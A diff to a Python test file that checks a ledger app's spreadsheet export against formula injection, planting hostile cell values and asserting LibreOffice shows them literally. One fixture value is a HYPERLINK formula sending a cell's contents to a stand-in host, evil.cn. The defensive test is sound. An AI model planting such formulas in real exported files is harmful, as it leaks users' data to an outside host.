@@ -636,7 +636,8 @@ def test_exported_file_converts_with_libreoffice(app, client, ledger, tmp_path):
         assert by_name[name][4] == number[:6] + "********" + number[-4:]
 
 
-HOSTILE_CELLS = {"王建国": '=HYPERLINK("http://evil.example/?"&E2,"详情")', "李秀英": "=1+2", "王小明": "+1-1",
+# Names hold 40 characters (PostgreSQL checks it).
+HOSTILE_CELLS = {"王建国": '=HYPERLINK("http://evil.cn/"&E2,"详情")', "李秀英": "=1+2", "王小明": "+1-1",
                  "赵大海": "@SUM(1)", "赵小花": "-2+3"}
 
 
@@ -649,7 +650,9 @@ def _plant_formulas(app):
             person.name = HOSTILE_CELLS.get(person.name, person.name)
         households = db.session.scalars(select(Household).order_by(Household.id)).all()
         households[0].address = "=2*3"
-        households[1].address = "东庄村\x002号"
+        # Stored before input was cleaned: SQLite keeps a NUL, PostgreSQL refuses it but keeps \x01 —
+        # both characters an .xlsx cannot hold.
+        households[1].address = "东庄村\x002号" if db.engine.dialect.name == "sqlite" else "东庄村\x012号"
         category = db.session.scalars(select(HouseholdCategory).order_by(HouseholdCategory.id)).first()
         category.name = "=3+4"
         db.session.commit()
@@ -686,7 +689,7 @@ def test_exported_formula_text_shows_literally_in_libreoffice(app, client, ledge
     texts = {cell for row in rows for cell in row}
     assert set(HOSTILE_CELLS.values()) <= texts and "=2*3" in texts
     assert not {"3", "0", "1", "6", "7"} & texts  # nothing was evaluated
-    assert "evil.example" not in "".join(r[4] for r in rows[1:])
+    assert "evil.cn" not in "".join(r[4] for r in rows[1:])
 
 
 def test_import_warns_about_formula_like_cells(app, tree, users):
